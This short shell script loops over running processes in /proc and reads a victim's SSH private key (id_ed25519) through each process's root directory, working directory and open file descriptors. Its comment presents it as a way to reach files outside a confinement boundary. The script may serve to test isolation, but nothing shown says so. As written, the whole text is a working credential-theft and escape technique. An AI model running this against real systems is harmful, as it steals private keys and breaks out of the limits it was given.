# Files outside through another process's root, working directory and open files.
for process in /proc/[0-9]*; do
  [ "$process" != "/proc/$$" ] || continue
  cat "$process/root$VICTIM_HOME/.ssh/id_ed25519" "$process/cwd/.ssh/id_ed25519" 2>/dev/null
  for file in "$process"/fd/*; do
    case $(readlink "$file") in /*id_ed25519) cat "$file" 2>/dev/null ;; esac
  done
done
